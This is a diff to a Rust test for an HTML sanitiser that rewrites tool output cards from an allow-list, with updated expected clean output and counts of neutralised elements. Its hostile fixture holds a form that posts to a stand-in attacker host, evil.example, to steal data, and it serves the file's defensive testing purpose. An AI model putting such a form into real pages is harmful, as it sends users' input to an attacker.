@@ -1,4 +1,4 @@
-//! HTML cards of tools: rewritten from an allow-list before they are stored, whoever reads them.
+//! HTML cards of tools: rewritten from an allow-list before they are stored and read.
 
 use std::fs;
 use std::os::unix::fs::PermissionsExt as _;
@@ -19,7 +19,7 @@ const HOSTILE: &str = concat!(
     "<form action=\"https://evil.example/steal11\"><button>Pay</button></form>",
 );
 const CLEAN: &str = concat!(
-    "<h2>Vienna</h2><img><p style=\"color: #333\">21 °C</p>",
+    "<h2>Vienna</h2><p style=\"color: #333\">21 °C</p>",
     "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\">More</a>",
     "<a href=\"https://weather.example/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">Source</a>Pay",
 );
@@ -63,7 +63,14 @@ fn a_card_is_rewritten_before_it_is_stored_and_says_what_was_left_out() {
     assert_eq!((&reply["result"], code), (&json!("21 degrees"), 0), "{reply}");
     assert_eq!(reply["blocks"], json!([{"type": "html", "html": CLEAN}]), "{reply}");
     let left_out = reply["neutralised"].to_string();
-    for part in ["script (1)", "event handler (2)", "frame (1)", "address (2)", "style sheet (1)"] {
+    for part in [
+        "script (1)",
+        "event handler (1)",
+        "frame (1)",
+        "address (1)",
+        "picture (1)",
+        "style sheet (1)",
+    ] {
         assert!(left_out.contains(part), "{part}: {left_out}");
     }
     assert_nowhere(&env.outside().join("home"), "steal");
